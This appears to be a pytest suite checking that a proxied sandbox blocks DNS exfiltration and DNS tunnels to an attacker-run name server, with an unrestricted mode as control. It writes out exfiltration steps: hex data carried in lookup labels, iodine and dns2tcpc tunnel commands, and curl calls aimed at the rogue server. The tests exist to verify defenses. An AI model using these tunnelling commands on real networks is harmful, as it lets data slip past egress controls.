# SPDX-License-Identifier: MIT
"""A name is a message: files and whole tunnels in lookups, to a name server that an attacker runs. The control is a sandbox
in FULL, from which the bytes arrive. In PROXIED not one frame may reach the far side, be the zone one whose hosts the policy
allows: a lookup alone is no request."""
import contextlib
import os
import secrets

import pytest

from lib import base
from lib.box import Adopted
from lib.tunnels import ALLOWED, DNS2TCP, IODINE, PASSWORD, ROGUE, TUNNEL, TUNNEL_PORT, ZONES, Tunnels

WAYS = ["udp", "udp_connected", "tcp", "tls", "https", "https_get", "https_address"]


@pytest.fixture(scope="module")
def tunnels():
    with contextlib.ExitStack() as stack:
        yield Tunnels(stack)


# -- a file in labels ---------------------------------------------------------------

def carry(tunnels, mode, way, zone):
    """(what was to be carried, what arrived, the attacker's account, the far side's)"""
    data, since = secrets.token_hex(300), tunnels.mark()
    tunnels.world.settle()
    with tunnels.world.watch() as watch:
        status, said = tunnels.box(mode).payload("lookups", "carry", 40, way=way, server=ROGUE, data=data, zone=zone)
    assert status == 0 and "exception" not in (said or {}), said
    return data, tunnels.carried(since, zone), said, watch


@pytest.mark.parametrize("zone", ZONES)
@pytest.mark.parametrize("way", WAYS)
def test_labels(tunnels, way, zone):
    data, arrived, said, watch = carry(tunnels, "FULL", way, zone)
    assert arrived == data and said["replies"] == 10 and not said["errors"], f"the control failed: {said}"
    assert watch.something()
    since = tunnels.mark()
    _, arrived, said, watch = carry(tunnels, "PROXIED", way, zone)
    assert not arrived and watch.nothing()
    assert tunnels.received(since) == []
    assert len(said["errors"]) + said["replies"] == 10, f"it did not try: {said}"
    # the gate itself answers for the allowed zone, so that these are lookups that succeed
    assert (said["answers"] > 0) == (zone == ALLOWED and way in ("udp", "udp_connected", "tcp")), said


def look_up(tunnels, mode, names):
    """By the C library, whose resolver is the rogue server: (what that received, the far side's account)"""
    box, since = tunnels.box(mode, Adopted), tunnels.mark()
    tunnels.world.settle()
    with tunnels.world.watch() as watch:
        for name in names:
            tunnels.start_in(box, *tunnels.resolving("getent", "ahosts", name), log=tunnels.dir / "getent").wait(60)
    return tunnels.received(since), watch


@pytest.mark.parametrize("zone", ZONES)
def test_labels_by_the_system_resolver(tunnels, zone):
    names = [f"{secrets.token_hex(20)}.{i}.{zone}" for i in range(5)]
    received, watch = look_up(tunnels, "FULL", names)
    assert {r.get("name") for r in received} == set(names) and watch.something(), "the control failed"
    received, watch = look_up(tunnels, "PROXIED", names)
    assert received == [] and watch.nothing()


# -- tunnels --------------------------------------------------------------------------

def iodine(tunnels, mode, zone, wait):
    """(what iodine said, datagrams that came out of the tunnel, the far side's account)"""
    mark, log, box = base.token(), tunnels.dir / f"iodine-{mode}", tunnels.box(mode, Adopted)
    tunnels.world.settle()
    with tunnels.iodined(zone), tunnels.world.watch() as watch:
        client = tunnels.start_in(box, "iodine", "-f", "-r", "-P", PASSWORD, "-m", "200", IODINE, zone, log=log)
        try:
            base.for_a_while(lambda: b"transmitting data" in log.read_bytes() or client.poll() is not None, wait)
            box.try_("sendto", family=4, addr=TUNNEL, port=TUNNEL_PORT, data=mark)
            out = base.for_a_while(lambda: tunnels.world.records(0, mark), 30 if mode == "FULL" else 1)
        finally:
            base.reap(client)
    return log.read_text(errors="replace"), out, watch


@pytest.mark.skipif(not os.path.exists("/dev/net/tun"), reason="this machine has no /dev/net/tun")
@pytest.mark.parametrize("zone", ZONES)
def test_iodine(tunnels, zone):
    said, out, watch = iodine(tunnels, "FULL", "t." + zone, 180)
    assert out and watch.something(), f"the control failed: {said}"
    said, out, watch = iodine(tunnels, "PROXIED", "t." + zone, 10)
    assert not out and "Sending DNS queries" in said and "Version ok" not in said, said
    assert watch.nothing()


def dns2tcp(tunnels, mode, zone, seconds):
    """(what dns2tcpc said, bytes that came out of the tunnel, the far side's account)"""
    mark = base.token()
    feed = f"(echo {mark}; sleep {seconds}) | timeout {seconds} dns2tcpc -z {zone} -r echo -l - {DNS2TCP}"
    box = tunnels.box(mode)
    tunnels.world.settle()
    with tunnels.dns2tcpd(zone), tunnels.world.watch() as watch:
        said = box.call("execute", argv=["sh", "-c", feed])
        out = tunnels.world.records(0, mark)
    return said, out, watch


@pytest.mark.parametrize("zone", ZONES)
def test_dns2tcp(tunnels, zone):
    for seconds in (4, 20, 80):  # as a busy machine may need
        said, out, watch = dns2tcp(tunnels, "FULL", "d." + zone, seconds)
        if out:
            break
    assert out and watch.something(), f"the control failed: {said}"
    said, out, watch = dns2tcp(tunnels, "PROXIED", "d." + zone, 6)
    assert not out and watch.nothing(), said


# -- records of a whole name ------------------------------------------------------------

def test_records_say_nothing_but_that_they_are_asked_for(tunnels):
    """The rule lets records of the zone's own name be looked up. Upper and lower case, options, the number of a query and
    other types could carry bytes: the far side sees three messages, always the same."""
    def seen(mode):
        since = tunnels.mark()
        tunnels.world.settle()
        status, said = tunnels.box(mode).payload("lookups", "spell", 40, server=ROGUE, name=ALLOWED, data=secrets.token_hex(8))
        assert status == 0 and said["asked"] == 64, said
        return {(r["by"], r["spelled"], r["type"], r["options"]) for r in tunnels.received(since)}, said

    got, said = seen("FULL")
    assert len(got) > 40 and {options for *_, options in got} == {0, 1}, f"the control failed: {got} {said}"
    got, said = seen("PROXIED")
    assert got == {("udp", ALLOWED, kind, 0) for kind in ("MX", "SRV", "TXT")}, got
    assert said["texts"] > 0, "the rogue server's text did not come back: nothing was looked up"


# -- what may be asked for ---------------------------------------------------------------

def check_one_name(tunnels, since, host):
    """Lookups for that name and no other, and the request."""
    got = tunnels.received(since)
    asked = [(r["name"], r["type"]) for r in got if r["by"] == "udp"]
    assert asked and {name for name, _ in asked} == {host} and {kind for _, kind in asked} <= {"A", "AAAA"}, got
    assert [r["host"] for r in got if r["by"] == "http"] == [host], got


def test_a_request_asks_for_its_own_name(tunnels):
    """The inspector looks up what it may dial, once."""
    host, since = f"{secrets.token_hex(8)}.{ALLOWED}", tunnels.mark()
    got = tunnels.box("PROXIED").call("execute", argv=["curl", "-sS", "-m", "90", "--connect-to", f"::{ROGUE}:",
                                                       f"http://{host}/"])
    assert got["out"] == "reached", got
    check_one_name(tunnels, since, host)


def test_lookups_are_answered_and_only_a_request_asks(tunnels):
    """Names under the allowed wildcard have addresses, of which the rogue server knows nothing until one is used."""
    box = tunnels.box("PROXIED")
    hosts, since = [f"{secrets.token_hex(20)}.{ALLOWED}" for _ in range(10)], tunnels.mark()
    with tunnels.world.watch() as watch:
        for host in hosts:
            got = box.call("execute", argv=["getent", "ahosts", host])
            assert got["code"] == 0 and got["out"], got
    assert watch.nothing()
    assert tunnels.received(since) == []
    got = box.call("execute", argv=["curl", "-sS", "-m", "90", f"http://{hosts[3]}/"])
    assert got["out"] == "reached", got
    check_one_name(tunnels, since, hosts[3])


def test_a_connection_without_a_request_asks_nobody(tunnels):
    """Where requests are judged, the name of one that is never made stays here; so it does when the port is not the rule's."""
    box, host, since = tunnels.box("PROXIED"), f"{secrets.token_hex(20)}.{ALLOWED}", tunnels.mark()
    addr = box.call("execute", argv=["getent", "ahostsv4", host])["out"].split()[0]
    tunnels.world.settle()
    with tunnels.world.watch() as watch:
        for port in (80, 443):
            box.call("dial", family=4, addr=addr, port=port, data="x", keep=f"mute{port}")
        for port in (22, 8080, 53000):
            assert box.try_("dial", family=4, addr=addr, port=port, data="x", recv=1) == "ECONNRESET"
        for port in (80, 443):
            box.call("close", keep=f"mute{port}")
    assert watch.nothing()
    assert tunnels.received(since) == []
    # the control: with a request it is asked for
    assert box.call("execute", argv=["curl", "-sS", "-m", "90", f"http://{host}/"])["out"] == "reached"
    check_one_name(tunnels, since, host)
